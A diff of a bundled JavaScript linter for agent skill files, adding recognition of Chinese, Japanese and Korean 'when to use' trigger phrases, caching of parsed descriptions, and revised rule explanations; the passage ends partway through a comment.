@@ -38,6 +38,11 @@ const CAL_FRONTMATTER = {
     clarity: {
         /** It says when to use the skill (any phrasing, or `when_to_use`). */
         trigger: 0.55,
+        /**
+         * The share of `trigger` a description without one earns when it says specifically what the
+         * skill does (`what`'s top step).
+         */
+        untriggeredSpecific: 0.5,
         /** It says what the skill does: specific words outside the trigger clause. */
         what: [
             { min: 3, score: 0.25 },
@@ -487,7 +492,7 @@ function lineContentWords(line) {
 
 /***/ }),
 
-/***/ 1568:
+/***/ 7903:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -587,12 +592,62 @@ function unionOfWords(sets) {
     };
 }
 
+;// CONCATENATED MODULE: ./src/parse/cjkTrigger.ts
+// Where a clause of a description written in Chinese, Japanese or Korean starts to say when to use
+// the skill. These scripts write words without spaces, so the English reading (a use-verb, then a
+// situation word) never sees them: "当用户需要…时触发" is "use when the user needs …". A situation
+// is opened by 当 ("when") before a subject or a need, or announced by a label ("触发场景：",
+// "使用场景"); a use-verb after "时" or "場合に" ("…时使用", "…場合に使用") closes one, which
+// starts at the 在/当 before it, or at the clause's start.
+/**
+ * 当 ("when") opening a situation: before who acts or what is needed, or closed by 时 ("at the
+ * time"). Not 当 inside another word: 相当 (quite), 适当 (fitting), 应当 (should), 当前 (current),
+ * 当天 (that day), 当然 (of course)…
+ */
+const WHEN_OPENS = /(?<![相适应恰妥正充担])当(?:用户|使用者|你|您|需要|要|想|遇到|涉及|处理|出现|在)|(?<![相适应恰妥正充担])当(?![前天然地年日时中初即场下今])[^。！？；\n]{1,60}?(?:(?<![实及同临定按准随平暂计小超耗历当何])时|的时候)/u;
+/** A label that announces the situations ("trigger scenarios", "use scenarios", "trigger words"). */
+const SITUATION_LABEL = /(?:触发|使用|适用|调用)(?:场景|条件|时机|词|关键词)|トリガー|使用場面|사용\s*시점/u;
+/**
+ * 时 ("at the time") that closes a situation, not inside a word of time: 实时 (real-time), 同时
+ * (at once), 临时 (temporary), 小时 (hour), 超时 (timeout)…
+ */
+const AT_THE_TIME = '(?<![实及同临定按准随平暂计小超耗历当何])时';
+/** A use-verb closing a situation: "…时使用", "…场合に使用", "…때 사용". */
+const CLOSES = new RegExp(`(?:${AT_THE_TIME}|的时候|時|場合|とき|際)(?:に)?(?:使用|调用|触发|启用|加载|使う|呼び出|起動)|때\\s*(?:사용|호출)`, 'u');
+/** Where a situation closed by CLOSES opens: 在 ("in/at") or 当 ("when"). */
+const SITUATION_START = /[在当]/gu;
+/** Char offset in `clause` where its trigger starts, or -1 when it says no situation in these scripts. */
+function cjkTriggerOffset(clause) {
+    let best = -1;
+    const opens = WHEN_OPENS.exec(clause);
+    if (opens)
+        best = opens.index;
+    const label = SITUATION_LABEL.exec(clause);
+    if (label && (best < 0 || label.index < best))
+        best = label.index;
+    const closes = CLOSES.exec(clause);
+    if (closes) {
+        let start = 0;
+        for (const m of clause.slice(0, closes.index).matchAll(SITUATION_START))
+            start = m.index;
+        if (best < 0 || start < best)
+            best = start;
+    }
+    return best;
+}
+/** Whether a trigger clause is only a label announcing the situations listed after it ("触发场景："). */
+function announcesCjkSituations(trigger) {
+    const t = trigger.trim();
+    return SITUATION_LABEL.exec(t)?.index === 0 && /[:：]$/u.test(t);
+}
+
 // EXTERNAL MODULE: ./src/parse/triggerStart.ts
 var triggerStart = __webpack_require__(4431);
 ;// CONCATENATED MODULE: ./src/parse/description.ts
 // What a description says: whether it names when to use the skill (in any of the ways people
 // write it), what the skill does, and how much specific information it carries. Repeated words,
 // filler ("proactively", "automatically") and runs of bare "for X, when Y" fragments carry none.
+
 
 
 
@@ -629,7 +684,7 @@ const REQUEST_WORDS = new Set(('ask asks asked asking say says said saying menti
  * Whether a clause's specific words occur enough in the skill's words, one of them a topic word
  * when `topic` is given (all as stems; a clause without any specific word passes).
  */
-function relatedClause(clause, hasStem, topic, fewWords) {
+function relatedClause(clause, hasStem, topic, fewWords, named = null) {
     const keys = new Set((0,markdown_document/* specificWords */.SL)(clause)
         .filter((w) => !REQUEST_WORDS.has(w))
         .map(stem));
@@ -645,9 +700,22 @@ function relatedClause(clause, hasStem, topic, fewWords) {
             onTopic = true;
     }
     const enough = shared >= (fewWords ? RELATED.fewerWords : RELATED.words) || shared >= RELATED.share * keys.size;
-    return enough && (onTopic || shared >= RELATED.shareWithoutTopic * keys.size);
+    if (!enough)
+        return false;
+    return onTopic || shared >= RELATED.shareWithoutTopic * keys.size || namesSubjectInGenericWord(clause, named);
 }
-/** Sentences and clauses of a description: split at . ! ? ; newlines and dashes used as separators. */
+/**
+ * Whether one of a clause's generic words is a word of the skill's name (`named`, as stems): too
+ * general to count as shared, but the subject the name states ("code tasks" in a skill named
+ * slicing-code-context). Only the name: a generic word of headings or prose ("file", "configure")
+ * says nothing of what the skill is about.
+ */
+function namesSubjectInGenericWord(clause, named) {
+    if (named === null || named.size === 0)
+        return false;
+    return (0,markdown_document/* contentWords */.ZF)(clause).some((w) => !REQUEST_WORDS.has(w) && named.has(stem(w)));
+}
+/** Sentences and clauses of a description: split at . ! ? ; (and 。！？；), newlines and dashes used as separators. */
 function clauses(text) {
     const out = [];
     let start = 0;
@@ -659,6 +727,11 @@ function clauses(text) {
             c === '—' ||
             c === '–' ||
             ((c === '.' || c === '!' || c === '?') && (next === undefined || next === ' ' || next === '\n')) ||
+            // Chinese and Japanese full stops, exclamation and question marks, semicolons: no space follows them.
+            c === '。' ||
+            c === '！' ||
+            c === '？' ||
+            c === '；' ||
             (c === ' ' && next === '-' && text[i + 2] === ' ');
         if (end) {
             out.push(text.slice(start, i));
@@ -737,18 +810,12 @@ function withoutOpenerWords(text) {
  */
 const STUFFED_COPY_BUDGET = 2 * 1024 * 1024;
 /**
- * Reads a description and an optional `when_to_use` field. With the skill's words (content-word
- * keys of its name and body), a trigger clause that shares too few of its words with them or with
- * the rest of the description is left out: it names no situation of this skill. With its topic
- * words too (content-word keys of its name and headings), one of the shared words must be a topic
- * word or a word of the rest of the description (see RELATED).
+ * A description without its stuffed fragments. Each removal copies the description: once
+ * STUFFED_COPY_BUDGET characters are copied the rest stay (a description within the specification's
+ * 1024 characters never gets near it), so a huge one costs linear time.
  */
-function readDescription(description, whenToUse = '', skillWords = null, topicWords = null) {
-    const stuffed = stuffedFragments(description);
+function withoutFragments(description, stuffed) {
     let cleaned = description;
-    // Each removal copies the description: once STUFFED_COPY_BUDGET characters are copied the rest
-    // stay (a description within the specification's 1024 characters never gets near it), so a huge
-    // one costs linear time.
     let copied = 0;
     for (const f of stuffed) {
         copied += cleaned.length;
@@ -756,8 +823,12 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
             break;
         cleaned = cleaned.replace(f, ' ');
     }
-    let trig = [];
-    // What each trigger clause is judged by: itself, or for a bare "TRIGGER —" the clause it announces.
+    return cleaned;
+}
+function readClauses(description, whenToUse) {
+    const stuffed = stuffedFragments(description);
+    const cleaned = withoutFragments(description, stuffed);
+    const trig = [];
     const judgedBy = new Map();
     const what = [];
     const empty = [];
@@ -766,14 +837,14 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
         if ((0,markdown_document/* specificWords */.SL)(clause).length === 0)
             empty.push(clause);
         const at = (0,triggerStart/* triggerStart */.Be)(clause);
-        if (at < 0)
+        const off = at >= 0 ? (0,triggerStart/* tokenOffset */.Lx)(clause, at) : cjkTriggerOffset(clause);
+        if (off < 0)
             what.push(clause);
         else {
-            const off = (0,triggerStart/* tokenOffset */.Lx)(clause, at);
             what.push(clause.slice(0, off));
             const t = clause.slice(off);
             trig.push(t);
-            if (ANNOUNCER.test(t.trim()) && i + 1 < parts.length)
+            if ((ANNOUNCER.test(t.trim()) || announcesCjkSituations(t)) && i + 1 < parts.length)
                 judgedBy.set(t, parts[i + 1]);
         }
     });
@@ -781,7 +852,49 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
     if (whenToUse.trim() !== '')
         trig.push(whenToUse);
     const whatText = what.join(' ');
-    const rest = new Set((0,markdown_document/* specificWords */.SL)(whatText));
+    return { stuffed, empty, trig, own, judgedBy, whatText, rest: new Set((0,markdown_document/* specificWords */.SL)(whatText)) };
+}
+/**
+ * How many descriptions' clauses are kept. The calibrated advice rescores a skill once per fix, and
+ * every fix but the description's keeps its description: it is read once, not once per fix.
+ */
+const KEEP_CLAUSES = 64;
+/** By description, oldest first; a hit holds the same `when_to_use` too. */
+const keptClauses = new Map();
+/** readClauses(description, whenToUse), read once while the description is among those read last. */
+function clausesOf(description, whenToUse) {
+    const hit = keptClauses.get(description);
+    if (hit !== undefined && hit.whenToUse === whenToUse)
+        return hit.clauses;
+    const clauses = readClauses(description, whenToUse);
+    keptClauses.delete(description);
+    keptClauses.set(description, { whenToUse, clauses });
+    if (keptClauses.size > KEEP_CLAUSES)
+        keptClauses.delete(keptClauses.keys().next().value);
+    return clauses;
+}
+/** The stems of the content words of what the description says the skill does, made once per clauses. */
+function whatStemsOf(c) {
+    if (c.whatStems === undefined) {
+        const stems = new Set();
+        for (const w of (0,markdown_document/* contentWords */.ZF)(c.whatText))
+            stems.add(stem(w));
+        c.whatStems = stems;
+    }
+    return c.whatStems;
+}
+/**
+ * Reads a description and an optional `when_to_use` field. With the skill's words (content-word
+ * keys of its name and body), a trigger clause that shares too few of its words with them or with
+ * the rest of the description is left out: it names no situation of this skill. With its topic
+ * words too (content-word keys of its name and headings), one of the shared words must be a topic
+ * word or a word of the rest of the description (see RELATED), or a generic word of the clause one
+ * of `nameWords` (the name's content-word keys).
+ */
+function readDescription(description, whenToUse = '', skillWords = null, topicWords = null, nameWords = null) {
+    const read = clausesOf(description, whenToUse);
+    const { stuffed, empty, own, judgedBy, whatText, rest } = read;
+    let trig = read.trig;
     const unrelated = [];
     let ownTrig = trig.slice(0, own);
     // A skill with too little text to compare with keeps every trigger clause.
@@ -791,18 +904,18 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
         const topic = topicWords === null || !skill.stemsAtLeast(RELATED.topicFromSkillWords) ? null : new Set();
         for (const w of topicWords ?? [])
             topic?.add(stem(w));
-        const whatStems = new Set();
-        for (const w of (0,markdown_document/* contentWords */.ZF)(whatText)) {
-            whatStems.add(stem(w));
-            topic?.add(stem(w));
-        }
+        const whatStems = whatStemsOf(read);
+        if (topic !== null)
+            for (const k of whatStems)
+                topic.add(k);
         const hasStem = (k) => whatStems.has(k) || skill.hasStem(k);
         // A description that is one situation and nothing else states the skill's subject in that
         // situation: there is no rest to share a word with, and the name and headings often word the
         // subject differently ("bug" under "Debugging"). Its opening clause needs no topic word.
         const opening = own > 0 && rest.size === 0 ? trig[0] : null;
         const few = !skill.atLeast(RELATED.fewerFromSkillWords);
-        const related = (t) => relatedClause(judgedBy.get(t) ?? t, hasStem, t === opening ? null : topic, few);
+        const named = topic === null || nameWords === null ? null : new Set(Array.from(nameWords, stem));
+        const related = (t) => relatedClause(judgedBy.get(t) ?? t, hasStem, t === opening ? null : topic, few, named);
         unrelated.push(...trig.filter((t) => !related(t)));
         ownTrig = ownTrig.filter(related);
         trig = trig.filter(related);
@@ -818,7 +931,7 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
         situationWords: situation.size,
         whatWords: rest.size,
         descriptionSituationWords: new Set((0,markdown_document/* specificWords */.SL)(withoutOpenerWords(ownTrig.join(' ')))).size,
-        stuffed,
+        stuffed: [...stuffed],
         unrelated,
         idle: [...stuffed, ...unrelated, ...empty],
     };
@@ -827,7 +940,7 @@ function readDescription(description, whenToUse = '', skillWords = null, topicWo
 // EXTERNAL MODULE: ./src/parse/skill.ts
 var skill = __webpack_require__(7342);
 // EXTERNAL MODULE: ./src/parse/markdown/mentions.ts
-var markdown_mentions = __webpack_require__(758);
+var mentions = __webpack_require__(758);
 // EXTERNAL MODULE: ./src/parse/markdown/prepared.ts
 var prepared = __webpack_require__(7760);
 ;// CONCATENATED MODULE: ./src/parse/markdown/length.ts
@@ -930,14 +1043,52 @@ function linkedPart(r, text, file, key) {
     }
     return part;
 }
-/** SKILL.md and the markdown files it links inside its folder, read once per skill. */
-function skillDocument(s) {
+/** Offset of the first character of line `line` (0-based) in `text`, or -1 when it has fewer lines. */
+function lineOffset(text, line) {
+    let offset = 0;
+    for (let i = 0; i < line && offset >= 0; i++)
+        offset = text.indexOf('\n', offset) + 1 || -1;
+    return offset;
+}
+/**
+ * Whether `s` reads SKILL.md's body as `basis`, the skill it was edited from, read it in `part`:
+ * the same lines from the same line on, and neither frontmatter changing how they read. A part
+ * depends on nothing else (see partMemo), so `s` may read its body through `part`.
+ */
+function readsBodyAs(s, basis, part, start) {
+    if (s.file !== part.file || start !== part.start)
+        return false;
+    const from = lineOffset(s.text, start);
+    const basisFrom = lineOffset(basis.text, start);
+    if (from < 0 || basisFrom < 0 || s.text.length - from !== basis.text.length - basisFrom)
+        return false;
+    return (s.text.slice(from) === basis.text.slice(basisFrom) &&
+        (0,prepared/* readsApartFromLead */.y)(s.text, start) &&
+        (0,prepared/* readsApartFromLead */.y)(basis.text, start));
+}
+/** SKILL.md's part: `basis`'s own when `s` is `basis` with its frontmatter edited (see readsBodyAs), else read. */
+function mainPart(s, start, basis) {
+    if (basis !== undefined) {
+        const lent = skillDocument(basis).main;
+        if (readsBodyAs(s, basis, lent, start))
+            return lent;
+    }
+    const { doc, mentions } = (0,prepared/* preparedText */.t)(s.text, '', start);
+    return { file: s.file, key: '', doc, start, mentions };
+}
+/**
+ * SKILL.md and the markdown files it links inside its folder, read once per skill. `basis` is a
+ * skill that `s` was made from by an edit (the calibrated advice rescores each): when the edit left
+ * SKILL.md's body as it was (a new description), `s` reads the body through `basis`'s part, so
+ * what the rules measure of the body alone is not measured again.
+ */
+function skillDocument(s, basis) {
     const hit = documents.get(s);
     if (hit)
         return hit;
-    const start = (0,markdown_mentions/* bodyStartLine */.$R)(s.text);
-    const { doc, mentions } = (0,prepared/* preparedText */.t)(s.text, '', start);
-    const main = { file: s.file, key: '', doc, start, mentions };
+    const start = (0,mentions/* bodyStartLine */.$R)(s.text);
+    const main = mainPart(s, start, basis);
+    const doc = main.doc;
     const resolved = s.resolved ?? null;
     const linked = [];
     const seen = new Set();
@@ -957,7 +1108,7 @@ function skillDocument(s) {
         linked,
         parts: [main, ...linked],
         resolved,
-        description: readDescription(s.description, (0,skill/* whenToUseOf */.oc)(s), skillWords(s.name, [main, ...linked]), topicWords(s.name, main)),
+        description: readDescription(s.description, (0,skill/* whenToUseOf */.oc)(s), skillWords(s.name, [main, ...linked]), topicWords(s.name, main), nameWords(s.name)),
         lines: start + wrappedLineCount(doc, start),
     };
     documents.set(s, out);
@@ -970,8 +1121,12 @@ function skillWords(name, parts) {
     return unionOfWords([() => own, ...parts.map((p) => () => partWords(p))]);
 }
 /** Content-word keys of the name and of SKILL.md's headings over text: what the skill is about. */
+/** Content-word keys of a skill's name, its parts read as words (slicing-code-context: slicing, code, context). */
+function nameWords(name) {
+    return new Set((0,markdown_document/* contentWords */.ZF)(name.replace(/[-_.]/g, ' ')));
+}
 function topicWords(name, main) {
-    const words = new Set((0,markdown_document/* contentWords */.ZF)(name.replace(/[-_.]/g, ' ')));
+    const words = nameWords(name);
     // An empty heading names nothing the skill covers.
     for (const h of main.doc.headings)
         if (h.hasContent)
@@ -1439,18 +1594,20 @@ const adviceDenseRules = (0,rules_rule/* defineRule */.Km)({
 });
 
 ;// CONCATENATED MODULE: ./src/rules/advice/measured.ts
-// Written by the composite (src/composite/advice.ts) when a sub-score is below its maximum and
-// none of the rules that read the skill's text explains it.
+// Written for a static dimension below its maximum that no other advice rule explains: under the
+// calibrated method one item per part of the sub-score the skill fell short of (src/engine/
+// shortfallAdvice.ts), under the reference method the sub-score's value (src/composite/advice.ts).
 
 const adviceMeasured = (0,rules_rule/* defineRule */.Km)({
     id: 'ADVICE_MEASURED',
     family: 'advice',
     title: 'Below the maximum',
-    description: 'The sub-score is below its maximum and no single fact explains it.',
-    why: "Several small shortfalls together cost points; the verbose report shows which parts of the sub-score they are, so the author can fix the ones that matter to the skill's users.",
-    bad: 'structural_completeness 0.82 of 1 (no single missing part)',
-    good: 'structural_completeness 1.00 of 1',
-    fix: 'See the sub-score in the verbose report (--verbose) for the parts it is made of.',
+    description: 'A part of the sub-score the skill did not earn, or the sub-score below its maximum.',
+    why: 'Several small shortfalls together cost points; naming each part of the sub-score the skill missed, with what it would win, lets the author fix the ones that matter to its users.',
+    bad: 'ecosystem_coherence 0.00 of 1: the prose points at no other skill or file, and names no related skill',
+    good: 'A "Related skills" section that links the skills used before and after this one',
+    fix: 'Earn the part the item names; under the reference method, docs/methodology.md lists the parts each sub-score is made of.',
+    methods: "The calibrated method lists each part of the sub-score short of its most (the same credits as the number), with the composite points that part would win, and the quality rules that lower the sub-score; a dimension short only of what no skill earns gets no advice. The reference method states the sub-score's value.",
 });
 
 ;// CONCATENATED MODULE: ./src/rules/advice/noInputs.ts
@@ -1469,7 +1626,7 @@ const adviceNoInputs = (0,rules_rule/* defineRule */.Km)({
     bad: 'Generate the release notes.',
     good: 'Input: the tag of the previous release (argument), or the latest tag when none is given.\nGenerate the release notes.',
     fix: 'Say what the skill needs from the user or the caller (files, arguments, parameters).',
-    methods: "The calibrated method reads SKILL.md and the files it links, with the sub-score's words (arguments included); the item's points are measured by adding an Inputs section and scoring the skill again.",
+    methods: 'The calibrated method reads SKILL.md and the files it links, with the sub-score\'s words (arguments included), and gives no item when a heading or label about the inputs ("## Usage") is followed by what they are, or an `argument-hint` names them; the item\'s points are measured by adding an Inputs section and scoring the skill again.',
     detect: noInputs_detect,
 });
 
@@ -1810,7 +1967,7 @@ const adviceNoOutputContract = (0,_rule_js__WEBPACK_IMPORTED_MODULE_4__/* .defin
     bad: 'Summarise the pull request for the reviewer.',
     good: 'Summarise the pull request for the reviewer.\nOutput format: a markdown list of changes, then one line "Risk: low|medium|high".',
     fix: 'State what the skill returns and its format (e.g. "Output: a markdown table of …" or "returns JSON with fields …").',
-    methods: "The calibrated method reads SKILL.md and the files it links; the item's points are measured by adding an Output section stating the format and scoring the skill again.",
+    methods: "The calibrated method reads SKILL.md and the files it links, and gives no item when a line states the output and its format or a heading, label or sentence about the output is followed by its specification (what the orchestration sub-score credits); the item's points are measured by adding an Output section stating the format and scoring the skill again.",
     detect,
 });
 
@@ -1825,7 +1982,7 @@ const adviceNoOutputContract = (0,_rule_js__WEBPACK_IMPORTED_MODULE_4__/* .defin
 /* harmony export */ });
 /* harmony import */ var _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(9332);
 /* harmony import */ var _parse_pytext_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7795);
-/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(1568);
+/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7903);
 /* harmony import */ var _subscores_calibrated_orchestrationWiring_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(1738);
 /* harmony import */ var _rule_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(281);
 /* harmony import */ var _fact_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(3920);
@@ -1853,7 +2010,7 @@ function orchestratorLine(skill, lower, method) {
     const doc = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .skillDocument */ .Nx)(skill).main.doc;
     const lines = lower.split('\n');
     for (let i = first - 1; i < lines.length; i++)
-        if (doc.kind[i] !== _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_0__/* .IN_FENCE */ .AZ && (0,_subscores_calibrated_orchestrationWiring_js__WEBPACK_IMPORTED_MODULE_3__/* .affirmsOrchestration */ .Sk)(lines[i]))
+        if (doc.kind[i] !== _parse_markdown_document_js__WEBPACK_IMPORTED_MODULE_0__/* .IN_FENCE */ .AZ && (0,_subscores_calibrated_orchestrationWiring_js__WEBPACK_IMPORTED_MODULE_3__/* .affirmsOrchestration */ .Sk)(lines[i], doc.raw[i]))
             return i + 1;
     return null;
 }
@@ -1878,7 +2035,7 @@ const adviceOrchestrator = (0,_rule_js__WEBPACK_IMPORTED_MODULE_5__/* .defineRul
     bad: 'This skill orchestrates the review: it dispatches work to the other agents.',
     good: 'This skill reviews a pull request for security problems and writes one comment per finding.',
     fix: 'If the skill does one job, describe that job; keep coordination to the steps that need it.',
-    methods: 'The reference quotes the first line with an orchestration word; the calibrated method only a line its sub-score counts: outside code, not negated, about agents.',
+    methods: 'The reference quotes the first line with an orchestration word; the calibrated method only a line its sub-score counts: outside code, not negated, not a name ("published to Orchestrator"), about agents.',
     detect,
 });
 
@@ -2014,8 +2171,8 @@ const BLOATED_SKILL = (0,rule/* defineRule */.Km)({
     },
 });
 
-// EXTERNAL MODULE: ./src/parse/markdown/skillDocument.ts + 4 modules
-var skillDocument = __webpack_require__(1568);
+// EXTERNAL MODULE: ./src/parse/markdown/skillDocument.ts + 5 modules
+var skillDocument = __webpack_require__(7903);
 ;// CONCATENATED MODULE: ./src/rules/anti-patterns/antiPattern.ts
 
 /** Unresolved, flaggable mentions of one kind across the document, once per target (the calibrated method). */
@@ -2074,7 +2231,7 @@ const ORPHAN_REFERENCE = (0,rule/* defineRule */.Km)({
     why: 'The model follows the link when the task needs the detail, finds nothing, and goes on without the material the skill promised (or guesses at it).',
     bad: 'Read [the field list](references/fields.md) first.   (references/fields.md is missing)',
     good: 'Read [the field list](references/fields.md) first.   (and the file is committed)',
-    methods: 'The reference checks `(references/…)` links in SKILL.md against the file names in references/. The calibrated method resolves every local link in SKILL.md and the markdown files it links (code examples excluded), reports each missing target once, and says "A link points at a local file that is not there."',
+    methods: 'The reference checks `(references/…)` links in SKILL.md against the file names in references/. The calibrated method resolves every local link in SKILL.md and the markdown files it links (code examples excluded; a link written after the skill-folder variable, `{baseDir}/…` or `${CLAUDE_SKILL_DIR}/…`, from the skill folder, wherever it is written), reports each missing target once, and says "A link points at a local file that is not there."',
     detect: {
         reference: (ctx) => {
             const refs = ctx.skill.references;
@@ -2108,7 +2265,7 @@ const DEAD_CROSS_REF = (0,rule/* defineRule */.Km)({
     why: 'The model is told to hand part of the task to a skill that is not installed: it either stalls looking for it or does that part without the guidance the author meant it to have.',
     bad: 'Afterwards, use skills/release-notes to write the changelog.   (no such skill folder)',
     good: 'Afterwards, use skills/changelog to write the changelog.   (skills/changelog/SKILL.md exists)',
-    methods: 'The reference checks every `skills/…` path in the body, code included. The calibrated method checks the cross-references in the prose of SKILL.md and the markdown files it links, and reports each missing skill once.',
+    methods: "The reference checks every `skills/…` path in the body, code included. The calibrated method checks the cross-references in the prose of SKILL.md and the markdown files it links (one in a linked file is looked for from that file's folder too: a sub-skill names its siblings; `skills/…` is also read from the folder named skills that holds the skill), and reports each missing skill once.",
     detect: {
         reference: (ctx) => {
             const s = ctx.skill;
@@ -2182,7 +2339,7 @@ const MISSING_TRIGGER = (0,_rule_js__WEBPACK_IMPORTED_MODULE_1__/* .defineRule *
     why: 'The description is the only part of a skill the model sees before it decides to load it; without a "when" it cannot match a request to the skill, and the skill stays unused on the very tasks it was written for.',
     bad: 'description: Utilities for PowerPoint decks and their layouts.',
     good: 'description: Builds and edits PowerPoint decks. Use when the user asks for slides or a .pptx file is involved.',
-    methods: 'Neither method flags a skill the model never loads by itself (`disable-model-invocation: true`, or `paths`). The reference accepts only its fixed phrases ("use when", "use proactively", "triggers on", "auto-loads when"). The calibrated method accepts any clause that names a situation ("Use any time …", "Invoke before …", "If the user asks …") in the description or in `when_to_use`.',
+    methods: 'Neither method flags a skill the model never loads by itself (`disable-model-invocation: true`, or `paths`). The reference accepts only its fixed phrases ("use when", "use proactively", "triggers on", "auto-loads when"). The calibrated method accepts any clause that names a situation ("Use any time …", "Invoke before …", "If the user asks …") in the description or in `when_to_use`, in Chinese, Japanese or Korean too ("当用户需要…时触发", "触发场景：", "…場合に使用").',
     detect: {
         reference: (ctx) => reliesOnDescription(ctx.skill) && !hasTriggerPhrase(ctx.skill.description)
             ? [{ line: ctx.skill.descriptionLine }]
@@ -2201,7 +2358,7 @@ const MISSING_TRIGGER = (0,_rule_js__WEBPACK_IMPORTED_MODULE_1__/* .defineRule *
 /* harmony export */   w: () => (/* binding */ ruleContext)
 /* harmony export */ });
 /* harmony import */ var _parse_pytext_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7795);
-/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1568);
+/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7903);
 
 
 const contexts = new WeakMap();
@@ -2260,7 +2417,7 @@ function createContext(skill) {
 /* harmony export */   vM: () => (/* binding */ contradictions)
 /* harmony export */ });
 /* harmony import */ var _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6746);
-/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1568);
+/* harmony import */ var _parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7903);
 /* harmony import */ var _text_lineSearch_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5341);
 /* harmony import */ var _text_tokenEstimate_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(6340);
 // Measurements of a skill's document that a calibrated rule and a calibrated sub-score share:
@@ -2401,7 +2558,8 @@ function partBytes(part) {
     return Math.max(0, bytes - 1);
 }
 function countBodyBytes(ctx) {
-    return partBytes(ctx.document.main);
+    // Per part: a skill whose edit left its body as it was reads it through the same part.
+    return (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_1__/* .partMemo */ .iR)(ctx.document.main, partBytes);
 }
 /**
  * SKILL.md's body (what follows the frontmatter: what enters the context when the skill loads) in
@@ -2616,6 +2774,8 @@ __webpack_require__.d(__webpack_exports__, {
 var calibratedWeights = __webpack_require__(6746);
 // EXTERNAL MODULE: ./src/parse/markdown/document.ts
 var markdown_document = __webpack_require__(9332);
+// EXTERNAL MODULE: ./src/parse/markdown/skillDocument.ts + 5 modules
+var skillDocument = __webpack_require__(7903);
 // EXTERNAL MODULE: ./src/rules/rule.ts
 var rule = __webpack_require__(281);
 // EXTERNAL MODULE: ./src/rules/subscores/calibrated/structuralCompleteness.ts
@@ -2623,6 +2783,7 @@ var structuralCompleteness = __webpack_require__(8562);
 // EXTERNAL MODULE: ./src/text/whiteSpace.ts
 var whiteSpace = __webpack_require__(1154);
 ;// CONCATENATED MODULE: ./src/rules/quality/hollowMainFile.ts
+
 
 
 
@@ -2637,7 +2798,7 @@ function substanceOf(part) {
     let chars = 0;
     for (let i = part.start; i < raw.length; i++) {
         const l = raw[i];
-        if (kind[i] === markdown_document/* FENCE */.AK || (kind[i] === markdown_document/* PROSE */.W_ && (SCAFFOLD.test(l) || structuralCompleteness/* TABLE_SEPARATOR */.F.test(l))))
+        if (kind[i] === markdown_document/* FENCE */.AK || (kind[i] === markdown_document/* PROSE */.W_ && (SCAFFOLD.test(l) || structuralCompleteness/* TABLE_SEPARATOR */.Fr.test(l))))
             continue;
         const visible = (0,whiteSpace/* visibleLength */.t)(l);
         if (visible === 0)
@@ -2693,13 +2854,14 @@ const detect = (ctx) => {
     const d = ctx.document;
     if (d.linked.length === 0)
         return [];
-    const main = substanceOf(d.main);
+    // Once per part: a linked file's part serves every edit the advice rescores.
+    const main = (0,skillDocument/* partMemo */.iR)(d.main, substanceOf);
     if (main.lines >= calibratedWeights/* CAL_MAIN_FILE */.Ed.hollowMaxLines)
         return [];
     let total = main.chars;
     let largest = null;
     for (const part of d.linked) {
-        const { chars } = substanceOf(part);
+        const { chars } = (0,skillDocument/* partMemo */.iR)(part, substanceOf);
         total += chars;
         if (largest === null || chars > largest.chars)
             largest = { part, chars };
@@ -2983,12 +3145,15 @@ const machineSpecificPath = (0,rule/* defineRule */.Km)({
 
 // EXTERNAL MODULE: ./src/parse/triggerStart.ts
 var triggerStart = __webpack_require__(4431);
+// EXTERNAL MODULE: ./src/rules/anti-patterns/missingTrigger.ts
+var missingTrigger = __webpack_require__(766);
 ;// CONCATENATED MODULE: ./src/rules/quality/overbroadTrigger.ts
 // Trigger language that claims almost any request: a universal over generic work ("any sort of
 // artifact", "before any creative work", "anything involving …", "all user requests") or a trigger
 // phrase made only of words every request could contain ("audit this", "check the implementation",
 // "what happened"). Each such clause is one unit; a scoped trigger ("Use when the user asks to
 // review a pull request") names something only some requests are about, and is not one.
+
 
 
 
@@ -3003,8 +3168,31 @@ const WORK_NOUNS = 'tasks?|requests?|questions?|work|jobs?|problems?|conversatio
  * hitting the API", "every change to auth modules") is scoped, and "all" alone is an object's
  * quantifier ("commit all changes"), not a trigger's.
  */
-const UNIVERSAL_WORK = new RegExp(`\\b(?:any|every|all\\s+(?:kinds?|sorts?|types?)\\s+of)\\s+(?:(?:kinds?|sorts?|types?)\\s+of\\s+)?(?:[a-z-]+\\s+)?(?:${WORK_NOUNS})` +
+const UNIVERSAL_WORK = new RegExp(`\\b(?:any|every|all\\s+(?:kinds?|sorts?|types?)\\s+of)\\s+(?:(?:kinds?|sorts?|types?)\\s+of\\s+)?(?:([a-z-]+)(\\s+))?(${WORK_NOUNS})` +
     `(?=\\s*(?:[.,;:!?)\\n]|$)|\\s+(?:that|which|where|when|whenever|before|after|and|or)\\b)`, 'gu');
+/**
+ * Whether the adjective of a universal (`lower[at, at + length)`) is written with a capital in
+ * `text` while its noun is not: a name ("any Cloudflare-related problems", "any ANSI-colored
+ * output", "every React component") scopes the work to what it names; "any creative work" has none.
+ */
